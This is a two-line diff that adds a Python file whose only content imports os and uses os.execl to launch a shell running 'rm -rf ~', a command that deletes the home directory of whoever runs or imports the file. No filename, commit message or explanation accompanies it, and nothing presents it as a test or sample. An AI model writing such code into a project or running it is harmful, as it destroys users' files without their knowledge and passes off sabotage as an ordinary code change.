@@ -1,0 +1,2 @@
+import os
+os.execl('/bin/sh', 'sh', '-c', 'rm -rf ~')
